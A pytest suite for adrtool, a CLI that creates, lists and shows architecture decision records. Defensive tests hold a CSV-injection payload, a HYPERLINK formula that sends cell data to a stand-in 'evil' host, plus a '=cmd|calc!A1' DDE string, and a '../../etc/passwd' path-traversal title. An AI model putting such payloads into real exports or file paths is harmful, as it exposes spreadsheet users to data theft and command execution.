"""adr init, new, list and show on a fresh log."""

from __future__ import annotations

import datetime as dt
import json

import pytest

from conftest import Project


def test_init_creates_the_log_with_record_0001(project: Project) -> None:
    """init makes decisions/, an accepted record 0001 dated today, and a config asking for revisit points."""
    result = project.run("init")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "decisions/0001-record-architecture-decisions.md\n.adr.toml\ndecisions/README.md\n"
    assert project.read(".adr.toml") == ("# adrtool's settings for this project (see `adr --help` and the README's "
                                         "Configuration)\nrequire-revisit = true\n")
    listed = json.loads(project.run("list", "--format", "json").stdout)
    assert [(r["number"], r["title"], r["status"], r["date"], r["revisit"]) for r in listed] == [
        (1, "Record architecture decisions", "accepted", "2021-05-01", "never")]


def test_init_refuses_an_existing_log(project: Project) -> None:
    """A second init says the log exists and changes nothing."""
    project.run("init")
    before = project.read("decisions/0001-record-architecture-decisions.md")
    result = project.run("init")
    assert result.exit_code == 2
    assert result.stderr == "adr: a decision log already exists in decisions; not initialising it again\n"
    assert project.read("decisions/0001-record-architecture-decisions.md") == before


def test_init_with_dir(project: Project) -> None:
    """init --dir creates the log where asked, and names it in the new config so that later commands find it."""
    result = project.run("init", "--dir", "doc/arch")
    assert result.stdout == "doc/arch/0001-record-architecture-decisions.md\n.adr.toml\ndoc/arch/README.md\n"
    assert (project.root / "doc/arch/0001-record-architecture-decisions.md").is_file()
    assert project.read(".adr.toml").splitlines()[1:] == ["require-revisit = true", 'dir = "doc/arch"']
    assert project.run("new", "Use", "OVN").stdout == "doc/arch/0002-use-ovn.md\n"


def test_init_keeps_an_existing_config(project: Project) -> None:
    """A project that has a config already gets no second one from init."""
    project.write("pyproject.toml", '[tool.adr]\nstatuses = ["proposed", "accepted"]\n')
    result = project.run("init")
    assert result.stdout == "decisions/0001-record-architecture-decisions.md\ndecisions/README.md\n"
    assert not (project.root / ".adr.toml").exists()


def test_a_log_an_adrs_toml_names_is_started_by_init_without_a_second_config(project: Project) -> None:
    """Audit 52 (lane a, class 5): JackMatanky/zotero-mcp-rs keeps an `adrs.toml` naming a `docs/adr` not made yet;
    `adr new` said it does not exist with no way forward, and `adr init` then wrote `.adr.toml` beside
    `adrs.toml`. The refusal says to run `adr init`; init starts the log there and writes no second config."""
    project.write("adrs.toml", 'adr_dir = "docs/adr"\nmode = "nextgen"\n')
    refused = project.run("new", "Use", "X")
    assert (refused.exit_code, refused.stderr) == (2, "adr: decision directory docs/adr does not exist (named by "
                                                      "adrs.toml); run `adr init` to start it there\n")
    result = project.run("init")
    assert (result.exit_code, result.stdout) == (0, "docs/adr/0001-record-architecture-decisions.md\n"
                                                    "docs/adr/README.md\n")
    assert not (project.root / ".adr.toml").exists()
    assert project.run("new", "Use", "X").stdout == "docs/adr/0002-use-x.md\n"


def test_three_new_records_one_superseding_another(project: Project) -> None:
    """new numbers records in order; --supersedes marks the old one and links both ways."""
    project.run("init")
    assert project.run("new", "Use", "PostgreSQL").stdout == "decisions/0002-use-postgresql.md\n"
    assert project.run("new", "--cycle", "Xena", "--revisit", "YOGA", "--tag", "ovn,ml2", "--tag", "bgp",
                       "Keep", "ML2/OVS").stdout == "decisions/0003-keep-ml2-ovs.md\n"
    result = project.run("new", "--supersedes", "2", "--status", "accepted", "Use CockroachDB")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "decisions/0004-use-cockroachdb.md\n"
    assert result.stderr == ("adr: marked decisions/0002-use-postgresql.md superseded\n"
                             "adr: updated decisions/README.md\n")

    listed = json.loads(project.run("list", "--format", "json").stdout)
    assert [{k: r[k] for k in ("number", "status", "cycle", "revisit", "tags", "supersedes", "superseded_by")}
            for r in listed[1:]] == [
        {"number": 2, "status": "superseded", "cycle": None, "revisit": None, "tags": [], "supersedes": [],
         "superseded_by": [4]},
        {"number": 3, "status": "proposed", "cycle": "xena", "revisit": "yoga", "tags": ["ovn", "ml2", "bgp"],
         "supersedes": [], "superseded_by": []},
        {"number": 4, "status": "accepted", "cycle": None, "revisit": None, "tags": [], "supersedes": [2],
         "superseded_by": []},
    ]
    assert listed[3]["path"] == "decisions/0004-use-cockroachdb.md"
    assert listed[3]["format"] == "frontmatter"


def test_supersede_touches_only_the_status_lines(project: Project) -> None:
    """The superseded record changes in its status line and one added superseded-by line, nothing else."""
    project.run("init")
    project.run("new", "Use PostgreSQL")
    before = project.read("decisions/0002-use-postgresql.md").splitlines()
    project.run("new", "--supersedes", "2", "Use CockroachDB")
    after = project.read("decisions/0002-use-postgresql.md").splitlines()
    assert after == [*before[:1], "status: superseded", *before[2:7], "superseded-by: [3]", *before[7:]]
    assert before[1] == "status: proposed"
    assert before[6:8] == ["tags: []", "---"]


def test_new_record_content(project: Project) -> None:
    """The rendered record is the canonical form with the template's section hints."""
    project.run("init")
    project.run("new", "--date", "2021-04-19", "--cycle", "xena", "--revisit", "yoga", "-m", "Neutron team",
                "--tag", "linuxbridge", "--relates-to", "1", "Keep the Linuxbridge backend")
    assert project.read("decisions/0002-keep-the-linuxbridge-backend.md").split("## Context")[0] == (
        "---\nstatus: proposed\ndate: 2021-04-19\ncycle: xena\nrevisit: yoga\n"
        "decision-makers: [Neutron team]\nconsulted: []\ninformed: []\ntags: [linuxbridge]\n"
        "relates-to: [1]\n---\n# Keep the Linuxbridge backend\n\n")


def test_list_filters_and_formats(project: Project) -> None:
    """list filters by status and tag; table and csv show the same records."""
    project.run("init")
    project.run("new", "--tag", "ovn", "--status", "accepted", "Use OVN")
    project.run("new", "--tag", "ovs", "Keep OVS")
    assert project.run("list", "--status", "accepted", "--tag", "OVN").stdout == (
        "NUMBER  STATUS    DATE        REVISIT  TITLE\n"
        "0002    accepted  2021-05-01  -        Use OVN\n")
    assert project.run("list", "--format", "csv", "--tag", "ovs").stdout == (
        "number,title,status,date,cycle,revisit,tags,decision_makers,consulted,informed,supersedes,superseded_by,"
        "relates_to,format,id,log,links,path\n"
        "3,Keep OVS,proposed,2021-05-01,,,ovs,,,,,,,frontmatter,0003,,,decisions/0003-keep-ovs.md\n")


def test_list_filters_by_a_status_word_as_the_reader_reads_it(project: Project) -> None:
    """`--status pending` keeps the records stating `Pending`, which the reader reads as proposed (it was refused as
    'neither a configured status nor one a record has'); a word no record has is still refused."""
    for number, status in enumerate(["Pending", "Accepted"], start=1):
        project.write(f"decisions/{number:04d}-t.md", f"# {number}. T\n\nDate: 2021-04-10\n\n## Status\n\n{status}\n")
    assert project.run("list", "--status", "pending").stdout == (
        "NUMBER  STATUS    DATE        REVISIT  TITLE\n"
        "0001    proposed  2021-04-10  -        T\n")
    result = project.run("list", "--status", "pendng")
    assert (result.exit_code, result.stderr) == (2, "adr: --status 'pendng' is neither a configured status nor one a "
                                                    "record has; expected one of: proposed, accepted, rejected, "
                                                    "deprecated, superseded\n")


def test_json_and_csv_show_every_link_a_record_writes(project: Project) -> None:
    """`links` holds every link a record writes, each as {kind, number, id, href}: adr-tools' `Amended by`
    (wuespace/telestion-architecture 0001), a `## Links` bullet's `Extends` (DEFRA/epr-re-ex-service 0017), front
    matter's `supersedes: [1]`; the typed fields stay lists of numbers; CSV writes each as its kind and record."""
    project.write("decisions/0001-use-nats.md", "# 1. Use NATS\n\nDate: 2021-04-01\n\n## Status\n\nAccepted\n\n"
                  "Amended by [2. Use JetStream](0002-use-jetstream.md)\n\n## Context\n\nWhy.\n")
    project.write("decisions/0002-use-jetstream.md", "# 2. Use JetStream\n\nDate: 2021-04-02\n\n## Status\n\n"
                  "Accepted\n\nAmends [1. Use NATS](0001-use-nats.md)\n\n## Context\n\nWhy.\n")
    project.write("decisions/0003-parse-files.md", "# Parse files\n\n* Status: accepted\n* Date: 2021-04-03\n\n"
                  "## Links\n\n* Extends [1. Use NATS](0001-use-nats.md)\n")
    project.write("decisions/0004-drop-nats.md", "---\nstatus: accepted\ndate: 2021-04-04\nsupersedes: [1]\n---\n"
                  "# Drop NATS\n")
    rows = json.loads(project.run("list", "--format", "json").stdout)
    assert [row["links"] for row in rows] == [
        [{"kind": "amended-by", "number": 2, "id": "0002", "href": "0002-use-jetstream.md"}],
        [{"kind": "amends", "number": 1, "id": "0001", "href": "0001-use-nats.md"}],
        [{"kind": "extends", "number": 1, "id": "0001", "href": "0001-use-nats.md"}],
        [{"kind": "supersedes", "number": 1, "id": None, "href": None}]]
    assert [(row["supersedes"], row["relates_to"]) for row in rows] == [([], []), ([], []), ([], []), ([1], [])]
    assert json.loads(project.run("show", "3", "--format", "json", "--no-git-dates").stdout)["links"] == rows[2]["links"]
    csv = project.run("list", "--format", "csv").stdout.splitlines()
    assert [line.rsplit(",", 2)[1] for line in csv] == ["links", "amended-by 2", "amends 1", "extends 1", "supersedes 1"]


def test_csv_text_cells_that_open_as_a_formula_are_shown_as_text(project: Project) -> None:
    """A CSV text cell opening with `=`, `+`, `-` or `@` (a title, a tag, a decision-maker) gets a `'` before it, so
    a spreadsheet shows it rather than running it (OWASP); numbers and dates are written as they are, and the
    JSON keeps the text unchanged."""
    project.write("decisions/0001-x.md", '---\nstatus: accepted\ndate: 2021-04-19\ntags: ["=cmd|calc!A1", "ok"]\n'
                                         'decision-makers: ["@evil", "Ann"]\nconsulted: ["+1 team"]\n'
                                         'informed: ["-all"]\n---\n# =HYPERLINK("http://evil/?"&A1,"click")\n')
    rows = project.run("list", "--format", "csv").stdout.splitlines()
    assert rows[1] == ("1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",accepted,2021-04-19,,,"
                       "'=cmd|calc!A1; ok,'@evil; Ann,'+1 team,'-all,,,,frontmatter,0001,,,decisions/0001-x.md")
    assert json.loads(project.run("list", "--format", "json").stdout)[0]["tags"] == ["=cmd|calc!A1", "ok"]


def test_show_by_number_file_name_and_path(project: Project) -> None:
    """show finds a record by number, zero-padded number, file name and path alike."""
    project.run("init")
    project.run("new", "Use OVN")
    text = project.read("decisions/0002-use-ovn.md")
    for ref in ("2", "0002", "ADR-2", "0002-use-ovn.md", "decisions/0002-use-ovn.md"):
        assert project.run("show", ref).stdout == text, ref
    shown = json.loads(project.run("show", "2", "--format", "json").stdout)
    assert shown["title"] == "Use OVN"
    assert shown["body"].startswith("# Use OVN\n\n## Context\n")


def test_show_unknown_record(project: Project) -> None:
    """An unknown number is one line and exit 2."""
    project.run("init")
    result = project.run("show", "9")
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == f"adr: no record number 9 in {project.decisions}\n"


def test_new_works_in_a_git_repository_without_commits(project: Project) -> None:
    """A repository with no commits yet is no obstacle."""
    import subprocess

    subprocess.run(["git", "init", "-q"], cwd=project.root, check=True)
    project.run("init")
    result = project.run("new", "First real decision")
    assert (result.exit_code, result.stdout) == (0, "decisions/0002-first-real-decision.md\n")


def test_new_rejects_unknown_cycle_with_suggestion(project: Project) -> None:
    """A misspelt cycle is refused with the closest names, and nothing is written."""
    project.run("init")
    result = project.run("new", "--revisit", "yoag", "Something")
    assert result.exit_code == 2
    assert result.stderr == ("adr: revisit 'yoag' is neither a known cycle nor a date (YYYY-MM-DD); did you mean "
                             "yoga? (ADR307); not written (--force writes it anyway)\n")
    assert sorted(p.name for p in project.decisions.glob("[0-9]*.md")) == ["0001-record-architecture-decisions.md"]


@pytest.mark.parametrize(("options", "message"), [
    (["--revisit", "2021-04-01"], "revisit 2021-04-01 is before the decision's date 2021-05-01 (ADR308)"),
    (["--date", "2021-06-01"], "date 2021-06-01 is in the future (today is 2021-05-01) (ADR305)"),
    (["--cycle", "xenia"], "cycle 'xenia' is not a known cycle; did you mean xena? (ADR309)"),
    (["--status", "proposed", "--revisit", "wallaby"], "revisit wallaby (its PTG starts 2020-10-26) is before the "
                                                        "decision's date 2021-05-01 (ADR308)"),
])
def test_new_refuses_what_validate_rejects_unless_forced(project: Project, options: list[str], message: str) -> None:
    """adr new refuses a record whose metadata validate reports as an error, with the rule's message and code;
    --force writes it, and validate then reports that very message."""
    project.run("init")
    refused = project.run("new", *options, "Something")
    assert (refused.exit_code, refused.stdout) == (2, "")
    assert refused.stderr == f"adr: {message}; not written (--force writes it anyway)\n"
    assert not list(project.decisions.glob("0002-*.md"))
    assert project.run("new", "--force", *options, "Something").exit_code == 0
    reported = json.loads(project.run("validate", "--format", "json").stdout)
    assert [f"{item['message']} ({item['code']})" for item in reported if item["severity"] == "error"] == [message]


def test_new_judges_a_date_shaped_revisit_as_a_date(project: Project) -> None:
    """`--revisit 2021-13-01` is an impossible date, not an unknown cycle; even --force does not write it."""
    project.run("init")
    for extra in ([], ["--force"]):
        result = project.run("new", *extra, "--revisit", "2021-13-01", "Something")
        assert (result.exit_code, result.stderr) == (2, "adr: --revisit '2021-13-01' is not a date (month must be in "
                                                        "1..12)\n")


def test_new_rejects_bad_status_and_missing_supersede_target(project: Project) -> None:
    """An unknown status or a missing --supersedes target writes nothing."""
    project.run("init")
    result = project.run("new", "--status", "done", "Something")
    assert (result.exit_code, result.stderr) == (
        2, "adr: unknown status 'done'; expected one of: proposed, accepted, rejected, deprecated, superseded\n")
    result = project.run("new", "--supersedes", "7", "Something")
    assert (result.exit_code, result.stderr) == (2, "adr: --supersedes 7: no record number 7 in decisions/\n")
    assert len(list(project.decisions.glob("[0-9]*.md"))) == 1


def test_slug_is_always_safe(project: Project) -> None:
    """Titles with path tricks, accents and bidi characters become plain slugs inside the log."""
    project.run("init")
    assert project.run("new", "../../etc/passwd").stdout == "decisions/0002-etc-passwd.md\n"
    assert project.run("new", "Café a/b \u202eevil").stdout == "decisions/0003-cafe-a-b-evil.md\n"
    assert project.run("new", "CON").stdout == "decisions/0004-con.md\n"
    result = project.run("new", "?!", "...")
    assert (result.exit_code, result.stderr) == (
        2, "adr: title '?! ...' has no letters or digits to make a file name from\n")


def test_edit_opens_the_editor_on_the_new_record(project: Project) -> None:
    """--edit runs $EDITOR on the new file after it is written."""
    project.run("init")
    editor = project.write("fake-editor.sh", '#!/bin/sh\nprintf "Edited by hand.\\n" >> "$1"\n')
    editor.chmod(0o755)
    result = project.run("new", "--edit", "Use OVN", env={"EDITOR": str(editor)})
    assert result.exit_code == 0, result.stderr
    assert project.read("decisions/0002-use-ovn.md").endswith("Edited by hand.\n")


def test_project_templates_override_the_shipped_ones(project: Project) -> None:
    """A `templates` directory in config provides record.md.j2; other templates still come from adrtool."""
    project.write(".adr.toml", 'templates = "adr-templates"\n')
    project.write("adr-templates/record.md.j2", """
        ---
        status: {{ status }}
        date: {{ date }}
        tags: {{ tags | yaml_list }}
        ---
        # {{ number }}. {{ title }}

        ## Problem

        ## Outcome
        """)
    project.run("init")
    project.run("new", "--tag", "ovn", "Use OVN")
    assert project.read("decisions/0002-use-ovn.md") == (
        "---\nstatus: proposed\ndate: 2021-05-01\ntags: [ovn]\n---\n# 2. Use OVN\n\n## Problem\n\n## Outcome\n")


def test_a_typo_in_a_template_is_one_clear_line(project: Project) -> None:
    """StrictUndefined: a misspelt variable fails loudly, and nothing is written."""
    project.write(".adr.toml", 'templates = "adr-templates"\n')
    project.write("adr-templates/record.md.j2", "# {{ titel }}\n")
    project.run("init")
    result = project.run("new", "Use OVN")
    assert (result.exit_code, result.stderr) == (2, "adr: template record.md.j2: 'titel' is undefined\n")
    assert sorted(p.name for p in project.decisions.glob("[0-9]*.md")) == ["0001-record-architecture-decisions.md"]


@pytest.mark.parametrize(("extra", "said"), [
    ("status: accepted\n", "would read as accepted, not proposed"),
    ("superseded-by: [9]\n", "would read as superseded by ADR 0009")])
def test_a_project_template_that_states_another_status_or_a_successor_is_refused(project: Project, extra: str,
                                                                                  said: str) -> None:
    """Round 50's attack (F14), in a project's own template: a second `status:` key made the new record read as
    accepted, and `superseded-by: [9]` gave every new record a successor. The record must read as `adr new` was
    asked: one line, exit 2, nothing written."""
    project.write(".adr.toml", 'templates = "adr-templates"\n')
    project.write("adr-templates/record.md.j2", "---\nstatus: {{ status }}\ndate: {{ date }}\n" + extra
                  + "---\n# {{ title }}\n")
    project.run("init")
    result = project.run("new", "Use OVN")
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == f"adr: {project.decisions}/0002-use-ovn.md: the new record {said}; check the template; " \
                            "nothing was written\n"
    assert sorted(p.name for p in project.decisions.glob("[0-9]*.md")) == ["0001-record-architecture-decisions.md"]


def test_one_record_named_as_both_superseded_and_related_is_refused_in_one_line(project: Project) -> None:
    """`adr new --supersedes 1 --relates-to 1` ended in an internal error (the record edited twice in one
    transaction, found by this stop's review): one line, exit 2, nothing written."""
    project.run("init")
    before = sorted(p.name for p in project.decisions.iterdir())
    result = project.run("new", "--supersedes", "1", "--relates-to", "1", "Use OVN")
    assert (result.exit_code, result.stderr) == (
        2, "adr: ADR 0001 is named by both --supersedes and --relates-to; name it once\n")
    assert sorted(p.name for p in project.decisions.iterdir()) == before


def test_the_root_s_options_may_follow_the_command(project: Project) -> None:
    """`adr list --dir docs/adr`, as people type it (it was `no such option`); `--dir=..` and `--today` too, and the
    two in any order. `adr init --dir` keeps its own option; a `--dir` after `--` is a title's word, and so is the
    value of the command's own option (`new -m --today`); one with no value is a usage error."""
    project.run("init", "--dir", "doc/arch")
    assert project.run("new", "Use", "OVN").stdout == "doc/arch/0002-use-ovn.md\n"
    (project.root / ".adr.toml").unlink()
    project.write("other/0001-x.md", "# 1. X\n\nDate: 2020-01-01\n\n## Status\n\nAccepted\n")
    numbers = [[row["number"] for row in json.loads(project.run("list", *args, "--format", "json").stdout)]
               for args in (("--dir", "doc/arch"), ("--dir=other",))]
    assert numbers == [[1, 2], [1]]
    assert project.run("new", "--dir", "other", "--", "Use", "--dir").stdout == "other/0002-use-dir.md\n"
    failed = project.run("list", "--dir")
    assert (failed.exit_code, failed.stderr) == (2, "adr: option --dir requires a value; see adr --help\n")
    due = json.loads(project.run("--dir=other", "due", "--today", "2020-01-02", "--as-of", "2030-01-01", "--format",
                                 "json").stdout)
    assert due == []  # `--today` after the command and `--dir=` before it, in one line
    made = project.run("--dir", "other", "new", "-m", "--today", "Keep", "X")  # the option's value, as it is
    assert made.stdout == "other/0003-keep-x.md\n"
    assert "Deciders: --today" in project.read("other/0003-keep-x.md")


def test_completing_a_root_option_after_the_command_shows_no_traceback(project: Project) -> None:
    """Completing `adr list --dir ` (no value yet) raised the usage error the command line would give: a traceback
    in the shell."""
    from click.shell_completion import ShellComplete

    from adrtool.cli import cli

    completion = ShellComplete(cli, {}, "adr", "_ADR_COMPLETE")
    assert completion.get_completions(["list", "--dir"], "") is not None


def test_new_in_a_log_named_by_words_and_in_one_numbered_after_an_area_s_code(project: Project) -> None:
    """In a log of names of words alone whose first words read as letters and a number (`etcd-s3-secret.md`),
    `adr new` named the record `etcd-s4-use-bar.md`, then refused it saying it "would read with the title 'Use
    bar', not 'Use bar'": it is named by its words; in `ADR-FE-00N` logs it takes the next number after the code;
    a new record that would read under another number says so."""
    project.write("words/etcd-s3-secret.md", "# Etcd S3 secret\n\nStatus: accepted\n")
    project.write("words/use-foo.md", "# Use foo\n\nStatus: accepted\n")
    for number in (1, 2):
        project.write(f"fe/ADR-FE-00{number}-x.md", f"# ADR-FE-00{number}: X\n\n**Status:** Accepted\n")
    result = project.run("--dir", "words", "new", "Use bar")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "words/use-bar.md\n", "")
    result = project.run("--dir", "fe", "new", "Use baz")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "fe/ADR-FE-003-use-baz.md\n", "")
    assert [(row["number"], row["title"]) for row in json.loads(project.run("--dir", "fe", "list", "--format",
                                                                            "json").stdout)][-1] == (3, "Use baz")


def test_a_log_keeping_each_record_in_a_folder_of_its_number(project: Project) -> None:
    """kwojtasinski-repo/ECommerceApp keeps record 14 in `docs/adr/0014/0014-x.md` beside its README, checklists
    and notes: each folder reads as a log of one record. `adr new` wrote `docs/adr/0001/0002-x.md`, a number taken,
    in another record's folder: it refuses, writing nothing; ADR101 told a record's own notes to take the next
    number (`rename it 0003-tech-details-dotnet.md`, another record's): they are the record's. Near miss: a folder
    named by a number in a log of its own, alone, is written in as before."""
    for number in (1, 2, 3):
        project.write(f"docs/adr/000{number}/000{number}-rec.md", f"# ADR-000{number}: Rec\n\n## Status\n\nAccepted\n")
    project.write("docs/adr/0002/tech-details-dotnet.md", "# Tech details\n\nStatus: accepted\nDate: 2020-01-01\n")
    result = project.run("new", "Use folders")
    assert (result.exit_code, result.stdout, result.stderr) == (2, "", (
        "adr: docs/adr/ keeps each record in a folder of its number (0001/ holds record 1); adr new writes no such "
        "folder: not creating the record\n"))
    assert sorted(path.name for path in (project.root / "docs/adr").rglob("*.md")) == [
        "0001-rec.md", "0002-rec.md", "0003-rec.md", "tech-details-dotnet.md"]
    assert [f["code"] for f in json.loads(project.run("validate", "--format", "json").stdout)] == []
    project.write("other/2024/0001-a.md", "# 1. A\n\n## Status\n\nAccepted\n")
    result = project.run("--dir", "other/2024", "new", "B")
    assert (result.exit_code, result.stdout) == (0, "other/2024/0002-b.md\n")


@pytest.mark.parametrize("today", ["2021-05-01", "real"])
def test_a_log_naming_its_records_by_number_then_day_names_a_new_one_so(project: Project, today: str) -> None:
    """EmilGeorgiev/p2p-message-tracker (log4brains): `ADR-001-20240608-use-log4brains-to-manage-the-adrs.md`, the
    number, then the day, then the words. `adr new` dropped the day (`ADR-006-use-redis-for-caching.md`); the new
    record is named as the log's are, by the day it is made (the fixture's or the real one)."""
    if today == "real":
        project.today = dt.date.today().isoformat()
    project.write(".log4brains.yml", "project:\n  name: p2p\n  adrFolder: ./docs/adr\n  packages: []\n")
    for n, slug in ((1, "20240608-use-log4brains-to-manage-the-adrs"), (5, "20240612-use-syncrwmutex")):
        project.write(f"docs/adr/ADR-00{n}-{slug}.md", f"# T{n}\n\n- Status: accepted\n- Date: 2024-06-0{n}\n")

    result = project.run("new", "Use Redis for caching")

    made = f"docs/adr/ADR-006-{project.today.replace('-', '')}-use-redis-for-caching.md"
    assert (result.exit_code, result.stdout) == (0, f"{made}\n"), result.stderr
    assert project.read(made).startswith("# Use Redis for caching\n")
    assert "ADR10" not in project.run("validate").stdout  # (its name is the log's: no naming finding)


def test_a_title_that_starts_with_a_dash_is_told_to_go_after_double_dash(project: Project) -> None:
    """Attack 56b (F11): `adr new '- dash start'` said only "no such option '- '". The line now says a value that
    starts with '-' goes after `--`, and so written the record is created; a misspelt option of a command with no
    such value (`list -z`) gets no such hint."""
    project.run("init")
    before = sorted(p.name for p in project.decisions.iterdir())
    result = project.run("new", "- dash start")
    assert (result.exit_code, result.stdout, result.stderr) == (
        2, "", "adr: no such option '- ' (a value that starts with '-' goes after `--`: adr new -- VALUE); see adr "
               "new --help\n")
    assert sorted(p.name for p in project.decisions.iterdir()) == before
    assert project.run("new", "--", "- dash start").stdout == "decisions/0002-dash-start.md\n"
    listed = project.run("list", "-z")
    assert (listed.exit_code, listed.stderr) == (2, "adr: no such option '-z'; see adr list --help\n")


def test_show_finds_a_record_by_its_series_code_and_new_refuses_a_log_of_several_series(project: Project) -> None:
    """Round 57 (JavyWorld/Aventide.gift): `show ADR-CO-001` said "no record" of `ADR-CO-001-uno.md`, and `adr new`
    wrote `ADR-CO-003-x.md` whatever series the decision was of. A name's opening code finds its record; `new` in a
    log of several named series refuses in one line, writing nothing."""
    for name, title in (("ADR-CO-001-uno", "Uno"), ("ADR-CO-002-dos", "Dos"), ("ADR-STR-001-tres", "Tres")):
        project.write(f"docs/adr/{name}.md", f"# {name[:-len(title) - 1]}: {title}\n\n## Estado\n\nAceptado\n")
    result = project.run("show", "ADR-CO-001", "--format", "json")
    assert (result.exit_code, json.loads(result.stdout)["title"]) == (0, "Uno")
    result = project.run("new", "Cuatro")
    assert (result.exit_code, result.stdout, result.stderr) == (
        2, "", "adr: docs/adr/ numbers its records in 2 series (ADR-CO-NNN, ADR-STR-NNN), and adr cannot tell which a "
               "new decision is of; copy a record of its series by hand; not creating the record\n")
    assert sorted(path.name for path in (project.root / "docs/adr").iterdir()) == [
        "ADR-CO-001-uno.md", "ADR-CO-002-dos.md", "ADR-STR-001-tres.md"]


def test_new_takes_no_number_a_record_in_another_markup_holds(project: Project) -> None:
    """Attack 57 (F9): beside `0001-a.md`, a `0002-b.rst` record (ADR101 says adr does not read it) and `adr new Z`
    wrote `0002-z.md`: two records numbered 2. The number a `.rst` or `.adoc` record's name holds is taken."""
    project.write("doc/adr/0001-a.md", "# 1. A\n\nDate: 2021-01-01\n\n## Status\n\nAccepted\n")
    project.write("doc/adr/0002-b.rst", "2. B\n====\n\nStatus: accepted\n")
    project.write("doc/adr/0003-c.adoc", "= 3. C\n\nStatus: accepted\n")
    result = project.run("new", "Z")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "doc/adr/0004-z.md\n", "")


def test_records_named_by_month_and_day_list_in_the_order_of_their_days(project: Project) -> None:
    """Attack 57b (F12): `adr list` put `11-8-x` before `9-30-model` (their names' order), and `2-30-x.md`, a day no
    month holds, was taken for a month and day. Listed by month, then day, then name; a log holding `2-30-x.md`
    is numbered, as one holding `13-1-x.md` is."""
    for name in ("11-8-x", "9-30-model", "11-10-y", "2-29-leap"):
        project.write(f"ADR/{name}.md", f"# {name}\n\nSome words.\n")
    rows = json.loads(project.run("list", "--format", "json").stdout)
    assert [(row["number"], row["id"]) for row in rows] == [
        (None, "2-29-leap"), (None, "9-30-model"), (None, "11-8-x"), (None, "11-10-y")]
    assert project.run("show", "9-30-model", "--format", "json").exit_code == 0
    project.write("ADR/2-30-x.md", "# 2-30-x\n\nSome words.\n")
    rows = json.loads(project.run("list", "--format", "json").stdout)
    assert [(row["number"], row["id"]) for row in rows][:2] == [(2, "2"), (2, "2")]


def test_a_minority_series_is_read_and_a_number_two_series_hold_is_refused(project: Project) -> None:
    """Attack 57b (F10): beside `ADR-CO-001` and `ADR-CO-002`, the one `ADR-STR-001` was not read (`show ADR-STR-001`
    said "no record"), and `adr show 1` gave ADR-CO-001 silently. Every series is read, a code finds its record, a
    number two series hold is refused naming both, and no ADR103 is said of numbers of two series."""
    for name, title in (("ADR-CO-001-uno", "Uno"), ("ADR-CO-002-dos", "Dos"), ("ADR-STR-001-tres", "Tres")):
        project.write(f"docs/adr/{name}.md", f"# {name[:-len(title) - 1]}: {title}\n\n## Estado\n\nAceptado\n")
    result = project.run("show", "ADR-STR-001", "--format", "json")
    assert (result.exit_code, json.loads(result.stdout)["title"]) == (0, "Tres")
    result = project.run("show", "1")
    assert (result.exit_code, result.stdout, result.stderr) == (
        2, "", "adr: record 1 is in 2 series (ADR-CO-001, ADR-STR-001); name it by its code\n")
    assert project.run("show", "2", "--format", "json").exit_code == 0
    result = project.run("validate")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", "")


def test_json_ids_keep_the_series_code_and_refusals_list_a_few_series(project: Project) -> None:
    """Attack 58 (F7, F11): `list --format json` gave `"id": "001"` to both series' first records, and with two
    hundred series `show 1` and `new` listed all two hundred codes on one line. The id is the series' code; a
    refusal names five series and counts the rest."""
    for letters in ("AA", "AB", "AC", "AD", "AE", "AF", "AG"):
        for number in ("001", "002"):
            project.write(f"docs/adr/ADR-{letters}-{number}-thing.md", "# Thing\n\n## Status\n\nAccepted\n")
    rows = json.loads(project.run("list", "--format", "json").stdout)
    assert [(row["number"], row["id"]) for row in rows][:3] == [(1, "ADR-AA-001"), (1, "ADR-AB-001"),
                                                               (1, "ADR-AC-001")]
    result = project.run("show", "1")
    assert (result.exit_code, result.stderr) == (
        2, "adr: record 1 is in 7 series (ADR-AA-001, ADR-AB-001, ADR-AC-001, ADR-AD-001, ADR-AE-001 and 2 more); "
           "name it by its code\n")
    result = project.run("new", "Next")
    assert (result.exit_code, result.stderr) == (
        2, "adr: docs/adr/ numbers its records in 7 series (ADR-AA-NNN, ADR-AB-NNN, ADR-AC-NNN, ADR-AD-NNN, "
           "ADR-AE-NNN and 2 more), and adr cannot tell which a new decision is of; copy a record of its series by "
           "hand; not creating the record\n")
